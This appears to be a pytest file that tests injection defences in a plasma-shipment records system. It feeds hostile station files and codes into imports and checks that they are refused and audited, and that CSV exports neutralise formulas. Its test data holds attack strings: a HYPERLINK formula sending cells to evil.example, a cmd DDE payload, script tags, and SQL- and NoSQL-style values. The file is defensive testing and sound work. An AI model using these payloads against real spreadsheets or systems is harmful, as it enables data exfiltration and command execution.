"""Attack matrix, injection: what a hostile station file, code or text puts into the plant's records
and exports. Each case proves the refusal, that nothing was written, and that the refusal is audited.

Add a case here for every new import (file or code) and every new export (CSV, report).
"""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import timedelta
from typing import Any

import pytest
import pytest_asyncio
import rfc8785
from sqlalchemy import func, select

from demo.seed import seed_stations
from records.alarms import Alarm
from records.audit import AuditContext, AuditEvent
from records.base import utcnow
from records.db import Database
from records.plant import Room
from records.plasma import Donor, PlasmaShipment, PlasmaUnit
from records.signature import ESignature
from resolvers.alarms import defuse
from tests.signing_env import issue_token
from tests.test_shipments import FILE, SUBMIT, TODAY, _unit

COLUMNS = "donation_number,donor_card_number,blood_type,collected_on,weight_g\n"
DAY = (TODAY - timedelta(days=3)).isoformat()
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+41-cmd", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest_asyncio.fixture
async def station(env: Any) -> dict[str, Any]:
    """A station system's write token for PS-N1, signing with the st.sig key."""
    gql, signers, db = env
    await seed_stations(db)
    partner = await issue_token(gql, signers, "st.sig", readOnly=False, stations=["PS-N1"])
    return {"signers": signers, "db": db, "partner": partner}


async def _counts(db: Database) -> list[int]:
    """Shipments, units, donors and signatures."""
    async with db.read() as s:
        return [(await s.execute(select(func.count()).select_from(m))).scalar_one()
                for m in (PlasmaShipment, PlasmaUnit, Donor, ESignature)]


async def _events(db: Database, action: str) -> list[AuditEvent]:
    async with db.read() as s:
        return list((await s.execute(select(AuditEvent).where(AuditEvent.action == action)
                                     .order_by(AuditEvent.id))).scalars())


async def _send_file(w: dict[str, Any], fmt: str, content: str, shipment: str = "SH-X") -> dict[str, Any]:
    """Posted as ASCII JSON (a lone surrogate travels as the escape \\ud800, as any client can send it)."""
    inp = {"stationCode": "PS-N1", "shipmentCode": shipment, "format": fmt, "content": content}
    try:
        sig = w["signers"].sign("st.sig", "submitPlasmaShipmentFile", inp)
    except rfc8785.CanonicalizationError:  # no lone surrogate in canonical JSON: sign the rest (refused first)
        sig = w["signers"].sign("st.sig", "submitPlasmaShipmentFile", {**inp, "content": ""})
    partner = w["partner"]
    r = await partner.client.post("/graphql", content=json.dumps(
        {"query": FILE, "variables": {"input": inp, "sig": sig}}).encode(), headers={
        "content-type": "application/json", "accept": "application/graphql-response+json",
        "authorization": f"Bearer {partner.token}"})
    body: dict[str, Any] = r.json()
    return body


# --- whole files the parser cannot read: an answer, never an internal error -------------------------

UNREADABLE = {
    "csv_field_over_the_csv_limit": ("CSV", COLUMNS + "F-1," + "9" * 200_000 + f",A,{DAY},600\n", "CSV"),
    "json_50000_deep": ("JSON", "[" * 50_000 + "]" * 50_000, "nested too deeply"),
    "json_integer_of_5000_digits": ("JSON", json.dumps([{"donation_number": "F-1"}])[:-2] + ', "weight_g": '
                                    + "7" * 5000 + "}]", "JSON"),
}


@pytest.mark.parametrize("case", UNREADABLE)
async def test_an_unreadable_manifest_is_refused_whole_and_audited(station: dict[str, Any], case: str) -> None:
    fmt, content, said = UNREADABLE[case]
    before = await _counts(station["db"])
    body = await _send_file(station, fmt, content)
    assert body["data"] is None, body
    err = body["errors"][0]
    assert err["extensions"]["code"] == "VALIDATION_FAILED" and said in err["message"], err
    assert await _counts(station["db"]) == before
    (ev,) = await _events(station["db"], "SHIPMENT_REJECTED")
    assert ev.actor == "st.sig" and ev.entity == "plasma_shipment"
    assert ev.changes["reason"] == err["message"] and ev.changes["operation"] == "submitPlasmaShipmentFile"


# --- codes: letters, digits and "-" only --------------------------------------------------------------

async def test_formula_markup_and_control_characters_are_refused_as_codes(station: dict[str, Any]) -> None:
    hostile = [*FORMULAS, "<script>alert(1)</script>", "DN-1\x00", "DN-\x07-1", "DN 1", "DN-1;DROP", "\uff24\uff11",
               "x" * 33]
    rows = [[f"F-{i}", code, "A", DAY, "600"] for i, code in enumerate(hostile)]  # as donor card numbers
    rows += [[code, f"CARD-{i}", "A", DAY, "600"] for i, code in enumerate(hostile)]  # as donation numbers
    text = io.StringIO()
    csv.writer(text).writerows([COLUMNS.strip().split(","), *rows,
                                ["GOOD-1", "CARD-G", "A", DAY, "600"]])
    before = await _counts(station["db"])
    rep = (await _send_file(station, "CSV", text.getvalue()))["data"]["submitPlasmaShipmentFile"]
    assert (rep["accepted"], rep["rejected"]) == (1, 2 * len(hostile))
    refused = [r for r in rep["rows"] if r["result"] == "REJECTED"]
    assert {r["code"] for r in refused} == {"VALIDATION_FAILED"}
    assert all("letters, digits or '-'" in r["reason"] for r in refused)
    assert all(r["donationNumber"].isascii() and len(r["donationNumber"]) <= 40 for r in refused)
    after = await _counts(station["db"])
    assert after[1:3] == [before[1] + 1, before[2] + 1]  # only the good row
    async with station["db"].read() as s:
        stored = list((await s.execute(select(PlasmaUnit.donation_number))).scalars())
    assert stored == ["GOOD-1"]
    (ev,) = await _events(station["db"], "SHIPMENT_ROWS_REJECTED")
    assert [r["row"] for r in ev.changes["rows"]] == [r["row"] for r in refused]
    assert {r["code"] for r in ev.changes["rows"]} == {"VALIDATION_FAILED"}


async def test_non_string_json_values_are_refused_row_by_row(station: dict[str, Any]) -> None:
    good = {"donation_number": "J-OK", "donor_card_number": "CJ-1", "blood_type": "A", "collected_on": DAY,
            "weight_g": 600}
    bad = [{**good, "donation_number": {"$gt": ""}}, {**good, "donation_number": ["J-1", "J-2"]},
           {**good, "donation_number": 1234567}, {**good, "donation_number": True},
           {**good, "donor_card_number": {"a": 1}}, {**good, "blood_type": ["A"]},
           {**good, "collected_on": {"y": 2026}}, {**good, "weight_g": {"g": 600}}, {**good, "weight_g": True},
           {**good, "weight_g": 10**400}]
    before = await _counts(station["db"])
    rep = (await _send_file(station, "JSON", json.dumps({"units": [*bad, good]})))["data"][
        "submitPlasmaShipmentFile"]
    results = [(r["row"], r["result"], r["code"]) for r in rep["rows"]]
    assert results == [(i, "REJECTED", "VALIDATION_FAILED") for i in range(1, 11)] + [(11, "ACCEPTED", None)]
    reasons = [r["reason"] for r in rep["rows"][:9]]
    assert all("must be a string, not" in why or "must be a number, not" in why for why in reasons), reasons
    assert "not a number" in rep["rows"][9]["reason"]  # a weight too large for a float
    assert rep["rows"][0]["donationNumber"] == "" and rep["rows"][4]["donationNumber"] == "J-OK"
    after = await _counts(station["db"])
    assert after[1:3] == [before[1] + 1, before[2] + 1]  # only the good unit and its donor
    (ev,) = await _events(station["db"], "SHIPMENT_ROWS_REJECTED")
    assert [r["row"] for r in ev.changes["rows"]] == list(range(1, 11))


async def _send_units(w: dict[str, Any], shipment: str, units: list[dict[str, Any]]) -> dict[str, Any]:
    inp = {"stationCode": "PS-N1", "shipmentCode": shipment, "units": units}
    try:
        sig = w["signers"].sign("st.sig", "submitPlasmaShipment", inp)
    except rfc8785.CanonicalizationError:  # sign a look-alike: the refusal comes before the signature check
        sig = w["signers"].sign("st.sig", "submitPlasmaShipment", {**inp, "shipmentCode": "SH-1", "units": []})
    partner = w["partner"]
    r = await partner.client.post("/graphql", content=json.dumps(
        {"query": SUBMIT, "variables": {"input": inp, "sig": sig}}).encode(), headers={
        "content-type": "application/json", "authorization": f"Bearer {partner.token}"})
    body: dict[str, Any] = r.json()
    return body


async def test_a_hostile_shipment_code_is_refused_before_anything_is_written(station: dict[str, Any]) -> None:
    before = await _counts(station["db"])
    for code in ("=cmd|' /C calc'!A0", "<b>SH</b>", " SH-1", ""):
        body = await _send_units(station, code, [_unit(1)])
        assert body["errors"][0]["extensions"]["code"] == "VALIDATION_FAILED", (code, body)
    assert await _counts(station["db"]) == before
    events = await _events(station["db"], "SHIPMENT_REJECTED")
    assert len(events) == 4 and all("shipment code" in e.changes["reason"] for e in events)


@pytest.mark.parametrize("where", ["code", "row", "file"])
async def test_a_lone_surrogate_anywhere_in_a_shipment_is_refused_before_it_runs(
        station: dict[str, Any], where: str) -> None:
    """Not text at all: refused with the request (400), before any resolver, so nothing can be written."""
    before = await _counts(station["db"])
    if where == "file":
        body = await _send_file(station, "CSV", COLUMNS + f"F-1,C-\ud800,A,{DAY},600\n")
    else:
        body = await _send_units(station, "SH-\ud800" if where == "code" else "SH-U",
                                 [_unit(1), _unit(2, donorCardNumber="CARD-\udfff" if where == "row" else "CARD-2")])
    err = body["errors"][0]
    assert err["extensions"]["code"] == "VALIDATION_FAILED" and "surrogate" in err["message"], body
    assert await _counts(station["db"]) == before


async def test_formula_donation_numbers_in_a_typed_shipment_are_rejected(station: dict[str, Any]) -> None:
    w = station
    before = await _counts(w["db"])
    units = [_unit(i, donationNumber=code) for i, code in enumerate(FORMULAS)]
    inp = {"stationCode": "PS-N1", "shipmentCode": "SH-T", "units": units}
    body = await w["partner"](SUBMIT, {"input": inp, "sig": w["signers"].sign("st.sig", "submitPlasmaShipment",
                                                                              inp)})
    rep = body["data"]["submitPlasmaShipment"]
    assert rep["accepted"] == 0 and {r["code"] for r in rep["rows"]} == {"VALIDATION_FAILED"}
    assert (await _counts(w["db"]))[1:3] == before[1:3]  # no unit, no donor
    (ev,) = await _events(w["db"], "SHIPMENT_ROWS_REJECTED")
    assert len(ev.changes["rows"]) == len(FORMULAS)


# --- exports: a cell a spreadsheet would run is written as text ---------------------------------------

@pytest.mark.parametrize("cell", [*FORMULAS, "-", "=1"])
def test_defuse_quotes_every_formula_start(cell: str) -> None:
    assert defuse(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-19", "-2.5", "+4", "1e-3", "CS9-TT-101", "Door closed", "", "a=b"])
def test_defuse_keeps_numbers_and_plain_text(cell: str) -> None:
    assert defuse(cell) == cell


async def test_alarm_report_csv_writes_hostile_texts_as_text(env: Any) -> None:
    gql, signers, db = env
    now = utcnow()
    async with db.write(AuditContext("system", reason="test alarm")) as s:
        room = (await s.execute(select(Room))).scalars().first()
        assert room is not None
        alarm = Alarm(source="LIMIT", condition="HIGH", priority="HIGH", state="ACTIVE", tag="+41-cmd",
                      room_id=room.id, message="\t=1+1", value=-19.0, peak=-16.5, began_at=now, raised_at=now)
        s.add(alarm)
        await s.flush()
        alarm_id = alarm.id
    me = await gql.sign_in("log.sig")
    inp = {"id": alarm_id, "handling": FORMULAS[0]}
    ack = await me("""mutation($input: AcknowledgeAlarmInput!, $sig: SignatureInput!){
        acknowledgeAlarm(input:$input, signature:$sig){ handling }}""",
                   {"input": inp, "sig": signers.sign("log.sig", "acknowledgeAlarm", inp, "ACKNOWLEDGED")})
    assert ack["data"]["acknowledgeAlarm"]["handling"] == FORMULAS[0]  # stored as typed, defused on export
    report = (await me("query{alarmReport(format: CSV){data}}"))["data"]["alarmReport"]
    header, row = list(csv.reader(io.StringIO(base64.b64decode(report["data"]).decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert cells["handling method"] == "'" + FORMULAS[0]
    assert cells["tag"] == "'+41-cmd" and cells["content"] == "'\t=1+1"
    assert cells["value"] == "-19" and cells["peak"] == "-16.5"  # numbers stay numbers
    assert not [c for c in row if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c[1:2].isalpha())]
